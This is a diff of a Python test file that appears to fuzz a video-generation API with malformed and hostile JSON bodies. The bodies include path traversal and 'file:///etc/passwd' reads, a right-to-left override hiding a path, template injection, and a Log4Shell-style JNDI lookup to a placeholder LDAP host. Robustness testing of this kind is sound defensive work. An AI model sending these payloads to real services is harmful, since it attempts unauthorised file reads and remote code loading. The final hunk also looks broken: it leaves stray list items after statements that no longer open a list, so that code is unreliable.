@@ -10,7 +10,7 @@ PARTS = "multipart/form-data; boundary=x"
 
 
 class Ask(NamedTuple):
-    """One body. `code` is None where more than one refusal is right."""
+    """One body. `code` is None where more than one refusal is right, `status` 0 where anything but a fault is."""
 
     kind: str
     body: bytes
@@ -53,15 +53,15 @@ def tricks() -> dict[str, Ask]:
         "a prompt of nearly a megabyte": json_of(b'{"prompt":"' + b"x" * ((1 << 20) - 40) + b'"}', code=wrong),
         "twenty thousand keys": json_of(b"{" + b",".join(b'"k%d":1' % n for n in range(20_000)) + b"}"),
         "a hundred thousand numbers": json_of(b'{"prompt":"x","cutaway":[' + b"1," * 100_000 + b"1]}", code=wrong),
-        "from right to left, a path": json_of('{"prompt":"x","style":"\u202e../../etc"}'.encode(), code=None),
+        "from right to left, a path": json_of('{"prompt":"x","style":"\u202e../../etc"}'.encode(), 0, None),
         "emoji for a size": json_of('{"prompt":"x","size":"🎬x🎬"}'.encode(), code=wrong),
         "a size of many digits": json_of(b'{"prompt":"x","size":"' + b"9" * 5000 + b'x9"}', code=wrong),
         "a comment": json_of(b'{"prompt":"x"/*,*/}'),
         "two values": json_of(b'{"prompt":"x"}{"prompt":"y"}'),
         "a list": json_of(b'[{"prompt":"x"}]'),
         "a word": json_of(b"null"),
-        "a template": json_of(b'{"prompt":"x","model":"{{7*7}}${jndi:ldap://192.0.2.1/a}"}', code=None),
-        "a model that is a path": json_of(b'{"prompt":"x","model":"../../etc/passwd"}', code=None),
+        "a template": json_of(b'{"prompt":"x","model":"{{7*7}}${jndi:ldap://192.0.2.1/a}"}', 404, None),
+        "a model that is a path": json_of(b'{"prompt":"x","model":"../../etc/passwd"}', 404, None),
         "a picture that is a path": json_of(b'{"prompt":"x","input_reference":"/etc/passwd"}', code=None),
         "a picture that is a file URL": json_of(b'{"prompt":"x","input_reference":"file:///etc/passwd"}', code=None),
         "a picture behind an address": json_of(
@@ -156,7 +156,8 @@ def ids() -> list[str]:
     ]
     step = len(found) / 4900
     some = [found[int(n * step)] for n in range(4900)]
-    nearly = [f"video_{made[:-1]}{c}" for c in "gG\n\0 /\\.%é٣"] + [
+    nearly = [f"video_{made[:-1]}{last}" for last in ["", *"gG\n\0 /\\.%é٣"]]
+    nearly += [f"VIDEO_{made}", f"video_{made}0"]
         f"VIDEO_{made}",
         f"video_{made}0",
         f"video_{made[:-1]}",
